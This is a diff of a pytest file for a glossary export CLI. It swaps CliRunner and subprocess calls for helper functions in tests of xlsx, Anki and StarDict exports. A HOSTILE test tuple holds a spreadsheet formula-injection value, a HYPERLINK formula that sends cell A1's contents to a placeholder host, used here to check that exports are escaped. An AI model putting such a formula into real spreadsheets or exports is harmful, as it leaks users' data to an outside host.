@@ -23,19 +23,15 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from typer.testing import CliRunner
 
 from glossary_cli import formats
-from glossary_cli.cli import app
 from glossary_cli.errors import RecordError, UsageError
 from glossary_cli.formats import anki, html, tabfile, xlsx
 from glossary_cli.formats._markup import exported_sections
 from glossary_cli.model import Concept, Definition, Glossary, LangSection, Term
 from glossary_cli.store import read_records
 
-from .conftest import DATA, essence
-
-runner = CliRunner()
+from .conftest import DATA, essence, gloss, gloss_process
 
 HOSTILE = (
     '=HYPERLINK("http://example.invalid/"&A1,"click")',
@@ -215,20 +211,14 @@ def test_export_takes_the_format_from_the_suffix(
     tmp_path: Path, suffix: str, name: str, head: bytes
 ) -> None:
     out = tmp_path / f"glossary{suffix}"
-    result = runner.invoke(app, ["export", "-o", str(out)])
+    result = gloss("export", "-o", str(out))
     assert result.exit_code == 0, result.stderr
     assert f"({name})" in result.stderr
     assert out.read_bytes().startswith(head)
 
 
 def _export_to(fmt: str, stdout: int | None) -> subprocess.CompletedProcess[bytes]:
-    return subprocess.run(
-        [sys.executable, "-m", "glossary_cli", "export", "--format", fmt],
-        stdout=stdout if stdout is not None else subprocess.PIPE,
-        stderr=subprocess.PIPE,
-        timeout=60,
-        check=False,
-    )
+    return gloss_process("export", "--format", fmt, stdout=stdout, timeout=60)
 
 
 @pytest.mark.slow
@@ -289,10 +279,10 @@ def test_xlsx_refuses_a_control_character() -> None:
 @pytest.mark.slow
 def test_xlsx_export_then_add_gives_the_same_terms(tmp_path: Path) -> None:
     out = tmp_path / "glossary.xlsx"
-    assert runner.invoke(app, ["export", "-o", str(out)]).exit_code == 0
+    assert gloss("export", "-o", str(out)).exit_code == 0
     back = formats.get("xlsx").read(out.read_bytes(), out.name)
     assert [essence(c) for c in back.concepts] == [essence(c) for c in read_records(DATA).concepts]
-    added = runner.invoke(app, ["add", str(out)])
+    added = gloss("add", str(out))
     assert added.exit_code == 0, added.stderr
     assert "40 concepts" in added.stdout
     again = read_records(Path(os.environ["GLOSS_USER_DATA"]))
@@ -478,7 +468,7 @@ def test_sdcv_finds_inflected_forms_in_the_dictionary_the_readme_makes(
     """``gloss export -o glossary.tab``, ``pyglossary glossary.tab glossary.ifo``, then sdcv:
     a word as running text writes it is found through StarDict's synonyms."""
     monkeypatch.chdir(tmp_path)
-    exported = runner.invoke(app, ["export", "-o", "glossary.tab"])
+    exported = gloss("export", "-o", "glossary.tab")
     assert exported.exit_code == 0, exported.stderr
     (tmp_path / "dict").mkdir()
     command = _pyglossary_command()
@@ -627,7 +617,7 @@ def test_anki_fields_are_escaped(tmp_path: Path) -> None:
 def test_an_anki_export_of_one_language_is_refused(tmp_path: Path) -> None:
     """A card needs two languages: with one, nothing to write, exit 1, and said why."""
     out = tmp_path / "deck.apkg"
-    result = runner.invoke(app, ["export", "--format", "anki", "--lang", "bn", "-o", str(out)])
+    result = gloss("export", "--format", "anki", "--lang", "bn", "-o", str(out))
     assert result.exit_code == 1
     assert "needs terms in two languages" in result.stderr and "--lang" in result.stderr
     assert not out.exists()
